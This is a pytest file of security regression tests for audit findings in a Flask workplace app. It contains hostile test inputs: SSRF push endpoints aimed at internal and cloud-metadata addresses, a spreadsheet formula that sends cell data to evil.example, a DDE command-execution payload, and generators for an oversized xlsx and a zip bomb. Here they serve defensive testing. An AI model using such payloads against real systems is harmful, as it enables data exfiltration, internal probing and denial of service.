"""What an outside attack and a full audit found (issue 12), one test or more per finding.

Items 1, 2, 5, 10 and 12 have their tests beside the features they touch
(tests/notify/test_after_commit.py, tests/safety/test_hazard_notices.py,
tests/activities/test_notices.py, tests/sync/test_sync_kinds.py, tests/test_auth.py);
the parameter fuzzer is tests/test_fuzz_params.py.
"""

import io
import re
import socket
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from app.blueprints.admin import roster
from app.blueprints.notify import push, services
from app.blueprints.safety.services.common import local_today
from app.extensions import db
from app.models import PushSubscription, Role, User
from tests.factories import make_department, make_user
from tests.helpers import text
from tests.notify.push_service import Browser
from tests.safety.factories import make_hazard

# --- crashes: bad input is a 400/404 with a message, never a 500 -----------------------------


@pytest.mark.parametrize(
    "url, status",
    [
        ("/notifications/?page=9999999999999999999999999", 400),
        ("/notifications/?page=²", 400),
        ("/notifications/?page=0", 400),
        ("/safety/hazards?page=0", 400),
        ("/safety/dashboard?page=0", 200),  # a page without pages ignores the argument
        ("/safety/?page=abc", 200),
        ("/activities/2147483648", 404),
        ("/activities/99999999999999999999", 404),
        ("/safety/hazards/٣", 404),
        ("/safety/hazards?q=%00", 400),
    ],
)
def test_odd_numbers_in_urls_are_answered_not_crashed_on(client, auth, url, status):
    auth.login(make_user(Role.SAFETY_OFFICER))
    response = client.get(url)
    assert response.status_code == status


LISTS = [
    "/notifications/",
    "/safety/hazards",
    "/safety/hazards/mine",
    "/safety/violations",
    "/safety/patrols",
    "/activities/",
    "/proposals/",
    "/care/files",
    "/gate/",
    "/appeals/",
    "/congress/notices",
    "/congress/motions",
    "/honours/nominations",
    "/admin/users",
    "/admin/audit",
]


@pytest.mark.parametrize("url", LISTS)
def test_every_list_refuses_a_number_that_is_no_page_number(client, auth, url):
    """Each list reads `?page=` through the one pager (`app.guards`): none takes page 0 or
    "abc" quietly as page 1, and each says what a page number is; page 2 is a page."""
    auth.login(make_user(*Role))
    assert client.get(url).status_code == 200
    assert client.get(f"{url}?page=2").status_code == 200
    for junk in ("0", "abc", "-1", "１"):
        response = client.get(f"{url}?page={junk}")
        assert response.status_code == 400, (url, junk)
        assert "页码须为 1 到 100000 之间的整数。" in text(response)  # i18n


def test_a_page_number_out_of_range_says_what_a_page_number_is(client, auth):
    auth.login(make_user())
    page = text(client.get("/notifications/?page=9999999999999999999999999"))
    assert "页码须为 1 到 100000 之间的整数。" in page  # i18n


def test_a_nul_byte_is_refused_before_log_in(client):
    # In a field's value: at that field, on the log-in page (400 is that page's "try again").
    response = client.post("/auth/login", data={"employee_no": "A\x00", "password": "x"})
    assert response.status_code == 400
    assert re.search(r'id="employee_no-errors">\s*<li>文字中含有不允许的字符。', text(response))
    # In a field's name, which no form shows: the request is refused whole.
    response = client.post("/auth/login", data={"employee_no\x00": "A", "password": "x"})
    assert response.status_code == 400 and 'class="error-box"' in response.text
    assert "有字段包含不允许的字符" in text(response)  # i18n


def test_a_form_refused_whole_leads_back_to_the_form_not_only_home(client, auth):
    """A NUL where no field can show it (a field's name, a file's name) or a body too large
    refuses the whole request: the page offers the way back to the form it came from, when
    that is one of the app's own pages."""
    auth.login(make_user())
    form = "http://localhost/proposals/new"
    response = client.post("/proposals/new", data={"ti\x00tle": "ab"}, headers={"Referer": form})
    assert response.status_code == 400
    assert f'href="{form}">返回表单</a>' in response.get_data(as_text=True)
    elsewhere = {"Referer": "https://evil.example/x"}
    response = client.post("/proposals/new", data={"ti\x00tle": "ab"}, headers=elsewhere)
    assert "返回表单" not in response.get_data(as_text=True) and "evil" not in response.text


@pytest.mark.parametrize("start, end", [("0001-01-01", "0001-01-02"), ("9999-12-30", "9999-12-31")])
def test_an_export_of_year_1_or_9999_is_refused_at_the_form(client, auth, start, end):
    auth.login(make_user(Role.SAFETY_OFFICER))
    response = client.get(f"/safety/export/hazards.xlsx?start={start}&end={end}")
    # The dashboard again, the reason at the export form (a bare error page lost the dates).
    assert response.status_code == 422
    assert "请选择 2000 年到 2100 年之间的日期。" in text(response)


# --- 7: push goes to public push services only -----------------------------------------------


@pytest.mark.parametrize(
    "endpoint",
    [
        "https://169.254.169.254/latest/meta-data/",
        "https://10.0.0.1:6379/",
        "https://localhost:5432/",
        "https://127.0.0.1/push",
        "https://[::1]/push",
        "http://fcm.googleapis.com/fcm/send/abc",
        "https://fcm.googleapis.com:8443/fcm/send/abc",
        "https://evil.example/push",
        "https://fcm.googleapis.com.evil.example/push",
    ],
)
def test_a_subscription_to_an_internal_or_unknown_address_is_refused(app, endpoint):
    with pytest.raises(services.InvalidSubscription) as refused:
        services.save_subscription(make_user(), Browser().subscription(endpoint))
    assert "endpoint" in refused.value.errors


@pytest.mark.parametrize(
    "endpoint",
    [
        "https://fcm.googleapis.com/fcm/send/abc",
        "https://updates.push.services.mozilla.com/wpush/v2/abc",
        "https://web.push.apple.com/abc",
    ],
)
def test_the_browsers_push_services_are_accepted(app, endpoint):
    sub = services.save_subscription(make_user(), Browser().subscription(endpoint))
    assert sub.endpoint == endpoint


def test_the_allow_list_is_configurable(app):
    app.config["PUSH_SERVICE_HOSTS"] = [".push.example.cn"]
    endpoint = "https://a.push.example.cn/x"
    assert services.save_subscription(make_user(), Browser().subscription(endpoint))
    with pytest.raises(services.InvalidSubscription):
        services.save_subscription(
            make_user(), Browser().subscription("https://fcm.googleapis.com/fcm/send/x")
        )


def test_a_push_host_that_resolves_inward_is_never_connected_to(app, monkeypatch):
    """The allow-list holds when saved; DNS is checked again right before each push."""
    monkeypatch.setattr(
        socket,
        "getaddrinfo",
        lambda *a, **k: [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("10.0.0.1", 443))],
    )
    connected = []
    monkeypatch.setattr(push, "webpush", lambda *a, **k: connected.append(a))
    phone = Browser()
    info = phone.subscription("https://fcm.googleapis.com/fcm/send/abc")
    info["keys"] = {"p256dh": info["keys"]["p256dh"], "auth": info["keys"]["auth"]}
    assert push.deliver(info, {"title": "x"}).result == "gone"
    assert connected == []


def test_a_stored_internal_endpoint_is_dropped_by_the_worker(app, monkeypatch):
    """A row that got in before the check (or by hand) is deleted, not connected to."""
    from app.blueprints.notify.jobs import send_push

    connected = []
    monkeypatch.setattr(push, "webpush", lambda *a, **k: connected.append(a))
    phone = Browser().subscription("https://169.254.169.254/latest")
    user = make_user()
    sub = PushSubscription(
        user_id=user.id,
        endpoint=phone["endpoint"],
        p256dh=phone["keys"]["p256dh"],
        auth=phone["keys"]["auth"],
    )
    db.session.add(sub)
    db.session.commit()
    sub_id = sub.id
    assert send_push.call_local(sub_id, {"title": "x"}) == "gone"
    assert connected == []
    db.session.expire_all()
    assert db.session.get(PushSubscription, sub_id) is None


# --- 8: text in Excel exports stays text -------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _cells(response):
    sheet = load_workbook(io.BytesIO(response.data)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_a_hazard_titled_like_a_formula_stays_text_in_the_export(client, auth):
    make_hazard(title=FORMULA)
    auth.login(make_user(Role.SAFETY_OFFICER))
    today = local_today().isoformat()
    response = client.get(f"/safety/export/hazards.xlsx?start={today}&end={today}")
    cells = [c for c in _cells(response) if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)


def test_names_and_titles_like_formulas_stay_text_in_the_roster(client, auth):
    from app.blueprints.activities import services as activity_services
    from tests.activities.factories import make_activity

    activity = make_activity(title="=1+1", capacity=5)
    activity_services.sign_up(make_user(name="=cmd|' /C calc'!A0"), activity)
    db.session.commit()
    auth.login(make_user(Role.ORGANIZER))
    cells = _cells(client.get(f"/activities/{activity.id}/roster.xlsx"))
    formulas = [c for c in cells if str(c.value).startswith("=")]
    assert {c.value for c in formulas} == {"=1+1", "=cmd|' /C calc'!A0"}
    assert all(c.data_type == "s" for c in formulas)


# --- 9: a small xlsx that claims the whole sheet does not take the server's memory -----------


def claiming_xlsx() -> bytes:
    """A 5 KB workbook whose one sheet claims A1:XFD1048576, with a cell in the last one."""
    book = Workbook()
    book.active.append(["工号", "姓名"])
    book.active.append(["50001", "赵六"])
    plain = io.BytesIO()
    book.save(plain)
    source = zipfile.ZipFile(io.BytesIO(plain.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(
                    rb'<dimension ref="[^"]+" ?/>', b'<dimension ref="A1:XFD1048576"/>', data
                )
                data = data.replace(
                    b"</sheetData>",
                    b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>'
                    b"</row></sheetData>",
                )
            target.writestr(info, data)
    return out.getvalue()


def test_an_xlsx_claiming_the_whole_sheet_is_refused_within_a_small_memory(app):
    data = claiming_xlsx()
    assert len(data) < 6000
    tracemalloc.start()
    try:
        with pytest.raises(roster.RosterError, match="5000"):
            roster.read_rows("roster.xlsx", data)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 50 * 1024 * 1024


def test_an_xlsx_that_unpacks_to_a_bomb_is_refused(app):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("xl/worksheets/sheet1.xml", b"<" + b" " * (60 * 1024 * 1024))
    with pytest.raises(roster.RosterError):
        roster.read_rows("roster.xlsx", out.getvalue())


# --- 6: CSV files in the encodings offices save them in ----------------------------------------


@pytest.mark.parametrize(
    "raw, name",
    [
        ("Employee number;Name\n60001;Müller Jörg\n".encode("cp1252"), "Müller Jörg"),
        ("工號,姓名,部門\n60001,張三豐,\n".encode("big5"), "張三豐"),
        ("工号\t姓名\n60001\t王小明\n".encode("utf-16"), "王小明"),
        ("工号;姓名\n60001;李雷\n".encode("gb18030"), "李雷"),
        ("\ufeff工号;姓名\n60001;韩梅梅\n".encode(), "韩梅梅"),
    ],
)
def test_csv_encodings_and_delimiters_are_read_as_written(app, raw, name):
    rows, _ignored = roster.read_rows("roster.csv", raw)
    assert [(line, values["employee_no"], values["name"]) for line, values in rows] == [
        (2, "60001", name)
    ]


def test_utf16_without_a_byte_order_mark_gets_a_clear_message(app):
    with pytest.raises(roster.RosterError, match="UTF-16"):
        roster.read_rows("roster.csv", "工号,姓名\n1,张三\n".encode("utf-16-le"))


# --- 11: security headers, and pages that pass their own policy ------------------------------


def test_every_response_carries_the_security_headers(client):
    response = client.get("/auth/login")
    policy = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy.split("style")[0]
    assert "frame-ancestors 'none'" in policy
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"


APP = Path(__file__).resolve().parent.parent / "app"


def test_no_template_runs_inline_script():
    """The CSP allows scripts from files only: no inline <script>, no on*="…" handlers, no
    htmx event filters (they need eval)."""
    found = []
    for template in APP.rglob("*.html"):
        source = template.read_text("utf-8")
        for match in re.finditer(r"<script\b([^>]*)>", source):
            attrs = match.group(1)
            if "src=" not in attrs and 'type="application/json"' not in attrs:
                found.append(f"{template.name}: inline <script>")
        if re.search(r"\son[a-z]+=\"", source):
            found.append(f"{template.name}: on…= handler")
        # A trigger is written in the attribute or given to the live_filters macro.
        if re.search(r'(hx-trigger=|\{% call live_filters\([^%]*?)"[a-z]+\[', source):
            found.append(f"{template.name}: htmx event filter")
        if "javascript:" in source:
            found.append(f"{template.name}: javascript: URL")
    assert found == []


def test_no_template_carries_a_style_element():
    """The CSP takes stylesheets from files only (`style-src 'self'`): a <style> element in a
    page is dropped by the browser, and what it laid out shows unstyled (the congress ballot's
    radio rows did)."""
    found = [t.name for t in APP.rglob("*.html") if re.search(r"<style\b", t.read_text("utf-8"))]
    assert found == []


def test_every_input_says_its_type():
    """The stylesheet sizes inputs by their type (a 44 px tap target): one without `type`
    showed about 20 px high, hard to tap (the survey's questions, a revoke reason)."""
    found = [
        f"{t.name}: {m.group(0)[:60]}"
        for t in APP.rglob("*.html")
        for m in re.finditer(r"<input\b[^>]*>", t.read_text("utf-8"))
        if not re.search(r"\stype=", m.group(0))
    ]
    assert found == []


# --- 12 (also in tests/test_auth.py): weak passwords in every way an account is made -------


def test_an_administrator_cannot_give_a_common_or_number_based_password(client, auth):
    auth.login(make_user(Role.ADMIN))
    dept = make_department()
    for password in ("password1", "demo1234", "W77001x1"):
        response = client.post(
            "/admin/users/new",
            data={
                "employee_no": "W77001",
                "name": "新人",
                "password": password,
                "department_id": dept.id,
                "roles": ["member"],
            },
        )
        assert response.status_code in (400, 422), password
    assert User.by_employee_no("W77001") is None


# --- 3: SQLite under bursts: writers wait their turn; a lock held too long is a 503 ----------


def test_a_log_in_waits_for_another_writer_instead_of_failing(app, database_url):
    """Another process holds SQLite's write lock for 6 s (a big batch, an import): a log-in
    waits its turn (the old 5 s busy timeout answered 500 "database is locked")."""
    import sqlite3
    import threading
    import time

    if not database_url.startswith("sqlite"):
        pytest.skip("SQLite's write lock; PostgreSQL locks rows")
    make_user(employee_no="W301")
    held = threading.Event()

    def hold_the_lock():
        other = sqlite3.connect(database_url.removeprefix("sqlite:///"), isolation_level=None)
        other.execute("BEGIN IMMEDIATE")
        held.set()
        time.sleep(6)
        other.execute("COMMIT")
        other.close()

    holder = threading.Thread(target=hold_the_lock)
    holder.start()
    held.wait(10)
    try:
        response = app.test_client().post(
            "/auth/login", data={"employee_no": "W301", "password": "secret123"}
        )
    finally:
        holder.join()
    assert response.status_code == 303


def test_a_database_still_locked_after_the_wait_is_a_503_that_says_so(app, client, monkeypatch):
    from sqlalchemy.exc import OperationalError

    from app.blueprints.auth import services as auth_services

    def locked(*args, **kwargs):
        raise OperationalError("INSERT …", {}, Exception("database is locked"))

    monkeypatch.setattr(auth_services, "authenticate", locked)
    response = client.post("/auth/login", data={"employee_no": "W302", "password": "x1234567"})
    assert response.status_code == 503
    assert response.headers["Retry-After"] == "5"
    assert "服务器繁忙" in text(response)  # i18n
